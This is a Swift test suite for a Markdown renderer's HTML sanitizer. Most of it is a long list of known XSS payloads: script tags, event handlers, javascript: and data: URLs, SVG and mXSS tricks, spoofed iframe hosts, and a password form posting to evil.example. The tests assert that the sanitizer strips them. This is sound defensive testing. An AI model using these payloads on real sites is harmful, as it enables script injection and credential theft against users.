import Testing

@testable import Markdown

private let sanitizer = HTMLSanitizer(iframeHosts: ["www.youtube.com", "Player.Bilibili.com"])

/// A note's Markdown with its raw HTML sanitized, as a site builds it by default.
private func render(_ markdown: String) -> String {
    MarkdownDocument(
        markdown,
        options: MarkdownOptions(rawHTML: .sanitized, iframeHosts: ["www.youtube.com", "player.bilibili.com"])
    ).html()
}

@Suite struct HTMLSanitizerTests {
    /// Known XSS vectors, by the classes of attack the public cheat sheets list (OWASP's XSS
    /// filter evasion sheet, PortSwigger's, the mXSS papers), written for this test. Each is
    /// tried as a note (so cmark cuts it into its own nodes first) and as one fragment.
    static let vectors: [String] = [
        // Script elements, in odd case, broken up, unclosed, with odd attributes.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1);//<</script>",
        "<script>alert(1)",
        "a <script>alert(1)</script> b",
        "x <script\n>alert(1)</script\n>",
        // Event handlers, on any element, however quoted or spaced.
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x ONERROR=\"alert(1)\">",
        "<img src=x onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">x</div>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
        "<kbd onfocus=alert(1) tabindex=0 autofocus>x</kbd>",
        // javascript:, vbscript: and data: URLs, with entities, whitespace and case inside.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"java&#13;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"\tjavascript:alert(1)\">x</a>",
        "<a href=\"javascript\n:alert(1)\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"jav&#x0A;ascript:alert(1)\">",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<a href=\"file:///etc/passwd\">x</a>",
        // SVG and MathML, with their own script vectors.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        // Frames and objects.
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe src=\"https://www.youtube.com@evil.example/\"></iframe>",
        "<iframe src=\"https://www.youtube.com.evil.example/\"></iframe>",
        "<iframe src=\"//www.youtube.com/embed/x\" onload=alert(1)></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<frameset onload=alert(1)>",
        // What changes the document around: base, meta refresh, link, style.
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</span>",
        // Forms and inputs.
        "<form action=\"https://evil.example/\"><input name=password><button>Sign in</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<select><option><img src=x onerror=alert(1)></select>",
        // Comments, CDATA, processing instructions and doctype hiding tags.
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<!DOCTYPE html><img src=x onerror=alert(1)>",
        // mXSS: elements whose content parses as text in one place and as markup in another.
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        // Quotes that try to break out of an attribute.
        "<a href=\"x\" title='\"onmouseover=alert(1) x=\"'>x</a>",
        "<img src=\"x\" alt=\"\"\"><script>alert(1)</script>\">",
        "<img src=`x`onerror=alert(1)>",
        "<a title=\"&quot; onclick=alert(1) &quot;\">x</a>",
        // Unclosed and misnested tags that try to swallow what follows.
        "<a href=\"https://ok.example\">never closed",
        "<img src=\"x\" alt=\"",
        "<div><p>x</div></p><script>alert(1)</script>",
        "<a href=x><a href=javascript:alert(1)>y</a></a>",
        "<table><tr><td><script>alert(1)</script>",
        "\u{0}<script>alert(1)</script>",
    ]

    @Test(arguments: vectors)
    func runsNothing(_ vector: String) {
        for html in [render(vector), sanitizer.sanitize(vector)] {
            #expect(sanitizer.disallowed(in: html).isEmpty, "\(vector) gave \(html)")
            let lowered = html.lowercased()
            for executable in [
                "<script", "<svg", "<math", "<style", "<form", "<input", "<base", "<meta", "<object",
                "<embed", "javascript:", "vbscript:", "data:text", "data:image/svg", "srcdoc", "evil.example", "style=",
                "name=",
                "onerror=", "onload=", "onclick=", "onfocus=", "ontoggle=", "onmouseover=", "onbegin=",
            ] {
                // Text may say anything, escaped; only markup could run.
                #expect(!markup(of: lowered).contains(executable), "\(vector) gave \(html)")
            }
        }
    }

    /// The tags of the sanitizer's HTML without the text between them and without their
    /// attribute values (always in double quotes, which it escapes inside), which a reader sees
    /// but no browser runs.
    private func markup(of html: String) -> String {
        var tags = ""
        var inTag = false
        var inValue = false
        for character in html {
            if character == "<" && !inValue { inTag = true }
            if inTag && character == "\"" { inValue.toggle() }
            if inTag && !inValue { tags.append(character) }
            if character == ">" && !inValue { inTag = false }
        }
        return tags
    }

    /// One rule of the allowlist each: what it allows survives as the sanitizer writes it.
    @Test(arguments: [
        ("<kbd>Ctrl</kbd>", "<kbd>Ctrl</kbd>"),
        ("x<sup>2</sup>, H<sub>2</sub>O", "x<sup>2</sup>, H<sub>2</sub>O"),
        ("<mark>hi</mark>", "<mark>hi</mark>"),
        ("a<br>b<br/>c", "a<br>b<br>c"),
        (
            "<details open><summary>More</summary>text</details>",
            "<details open=\"\"><summary>More</summary>text</details>"
        ),
        (
            "<span class=\"red\">x</span><div class=\"note\">y</div>",
            "<span class=\"red\">x</span><div class=\"note\">y</div>"
        ),
        (
            "<img src=\"a.png\" alt=\"A\" width=\"10\" height=\"20\">",
            "<img src=\"a.png\" alt=\"A\" width=\"10\" height=\"20\">"
        ),
        ("<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"),
        ("<a href=\"https://oi-wiki.org/\">OI</a>", "<a href=\"https://oi-wiki.org/\">OI</a>"),
        ("<a href=\"../graph/dfs.md#x\">DFS</a>", "<a href=\"../graph/dfs.md#x\">DFS</a>"),
        ("<a href=\"mailto:a@example.org\">mail</a>", "<a href=\"mailto:a@example.org\">mail</a>"),
        ("<a href=\"#top\">top</a>", "<a href=\"#top\">top</a>"),
        ("<a id=\"loj-139\"></a><a name=\"old\"></a>", "<a id=\"loj-139\"></a><a id=\"old\"></a>"),
        (
            "<table><thead><tr><th colspan=2>h</th></tr></thead><tbody><tr><td rowspan=\"1\">a</td><td>b</td></tr></tbody></table>",
            "<table><thead><tr><th colspan=\"2\">h</th></tr></thead><tbody><tr><td rowspan=\"1\">a</td><td>b</td></tr></tbody></table>"
        ),
        (
            "<figure><img src=\"a.png\"><figcaption>A</figcaption></figure>",
            "<figure><img src=\"a.png\"><figcaption>A</figcaption></figure>"
        ),
        ("<abbr title=\"HyperText\">HTML</abbr>", "<abbr title=\"HyperText\">HTML</abbr>"),
        (
            "<ins>new</ins><del>old</del><s>no</s><u>u</u><small>s</small>",
            "<ins>new</ins><del>old</del><s>no</s><u>u</u><small>s</small>"
        ),
        ("<hr>", "<hr>"),
        ("<blockquote>q</blockquote>", "<blockquote>q</blockquote>"),
        ("<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>", "<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>"),
        ("<h2>t</h2>", "<h2>t</h2>"),
        ("<pre><code>a &lt; b</code></pre>", "<pre><code>a &lt; b</code></pre>"),
        ("<dl><dt>t</dt><dd>d</dd></dl>", "<dl><dt>t</dt><dd>d</dd></dl>"),
        ("<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"),
        (
            "<iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" allowfullscreen></iframe>",
            "<iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" allowfullscreen=\"\" sandbox=\"\(HTMLSanitizer.frameSandbox)\"></iframe>"
        ),
        (
            "<iframe src=\"//player.bilibili.com/player.html?bvid=1\"></iframe>",
            "<iframe src=\"https://player.bilibili.com/player.html?bvid=1\" sandbox=\"\(HTMLSanitizer.frameSandbox)\"></iframe>"
        ),
        ("<iframe src=\"https://player.bilibili.com:8080/\"></iframe>", ""),
        (
            "<iframe src=\"https://PLAYER.bilibili.com/player.html?bvid=1\"></iframe>",
            "<iframe src=\"https://PLAYER.bilibili.com/player.html?bvid=1\" sandbox=\"\(HTMLSanitizer.frameSandbox)\"></iframe>"
        ),
        // Unknown or disallowed elements are unwrapped, their text kept; escaping is kept.
        ("<center><font color=red>x</font></center>", "x"),
        ("<b>a &amp; b &lt;c&gt; \"q\"</b>", "<b>a &amp; b &lt;c&gt; &quot;q&quot;</b>"),
        ("<span title='a\"b'>x</span>", "<span title=\"a&quot;b\">x</span>"),
        ("<pre>\n\nx</pre>", "<pre>\n\nx</pre>"),
    ])
    func allows(_ input: String, _ expected: String) {
        #expect(sanitizer.sanitize(input) == expected)
        #expect(sanitizer.sanitize(expected) == expected)
    }

    @Test func inlineTagsAcrossNodes() {
        // cmark gives `<kbd>` and `</kbd>` a node each; the text between them stays Markdown.
        #expect(
            render("Press <kbd>Ctrl</kbd>+<kbd>*C*</kbd>") == "<p>Press <kbd>Ctrl</kbd>+<kbd><em>C</em></kbd></p>\n")
        // An emphasis is a container of its own: a tag opened inside it closes there.
        #expect(render("*<kbd>a*</kbd> b") == "<p><em><kbd>a</kbd></em> b</p>\n")
        // A formula inside inline HTML stays kb's.
        #expect(
            render("<sup>$x$</sup>").contains("<sup>\(MathMarkup.mark(MathFormula(tex: "x", layout: .inline)))</sup>"))
    }

    @Test func unclosedTagsEndWithTheirContainer() {
        #expect(render("a <b>bold\n\nnext") == "<p>a <b>bold</b></p>\n<p>next</p>\n")
        #expect(
            render("> <a href=\"https://x.example\">quote\n\nafter")
                == "<blockquote>\n<p><a href=\"https://x.example\">quote</a></p>\n</blockquote>\n<p>after</p>\n")
        #expect(
            render("| a |\n|---|\n| <i>x |\n\nafter").hasSuffix(
                "<td><i>x</i></td>\n</tr>\n</tbody>\n</table>\n<p>after</p>\n"))
        // A stray end tag goes; `</p>`, which HTML reads as an empty paragraph, is unwrapped.
        #expect(render("x</div></p></kbd>y") == "<p>xy</p>\n")
        // Inside a paragraph, elements of blocks are unwrapped: a `<p>` in a `<p>` would end it.
        #expect(render("a <div><p>b</p></div> c") == "<p>a b c</p>\n")
        // An unclosed `<textarea>` takes only the rest of its paragraph.
        #expect(render("a <textarea> b\n\nc") == "<p>a </p>\n<p>c</p>\n")
        // A paragraph whose HTML all went goes too.
        #expect(render("<object data=\"x\"></object><embed src=\"y\">\n\nc") == "<p>c</p>\n")
    }

    @Test func blockTagsEncloseMarkdownBlocks() {
        #expect(
            render("<details>\n<summary>More</summary>\n\nHidden *text*\n\n</details>\n\nafter")
                == "<details>\n<summary>More</summary>\n<p>Hidden <em>text</em></p>\n</details>\n<p>after</p>\n")
        #expect(render("- <div>\n\n  x\n\ny") == "<ul>\n<li>\n<div>\n<p>x</p>\n</div>\n</li>\n</ul>\n<p>y</p>\n")
    }

    @Test func noAnchorInsideAnother() {
        #expect(
            render("[a <a href=\"https://x.example\">b</a>](https://y.example)")
                == "<p><a href=\"https://y.example\">a b</a></p>\n")
        #expect(
            sanitizer.sanitize([.html("<a href=\"x\">"), .slot, .html("</a>"), .slot])
                == [.html("<a href=\"x\">"), .slot(0, inAnchor: true), .html("</a>"), .slot(1, inAnchor: false)])
    }

    @Test func markdownLinksStillLoseDangerousURLs() {
        #expect(
            render("[a](javascript:alert(1)) ![b](data:text/html,x)")
                == "<p><a href=\"\">a</a> <img src=\"\" alt=\"b\" /></p>\n")
    }

    @Test func slotsCannotBeForged() {
        for forged in ["<kb-slot kb-slot=\"0\"></kb-slot>", "<KB-SLOT KB-Slot=0>", "<x \u{600}kb-slot=0>"] {
            #expect(sanitizer.sanitize([.html(forged), .slot, .html("</b>")]) == [.slot(0, inAnchor: false)])
        }
    }

    @Test func trustedPassesAndOmittedDrops() {
        let html = "<script>x</script>\n\n<kbd onclick=\"y\">k</kbd>"
        #expect(
            MarkdownDocument(html, options: MarkdownOptions(rawHTML: .trusted)).html()
                == "&lt;script>x&lt;/script>\n<p><kbd onclick=\"y\">k</kbd></p>\n")
        #expect(
            MarkdownDocument(html, options: MarkdownOptions(rawHTML: .omitted)).html()
                == "<!-- raw HTML omitted -->\n<p><!-- raw HTML omitted -->k<!-- raw HTML omitted --></p>\n")
    }
}
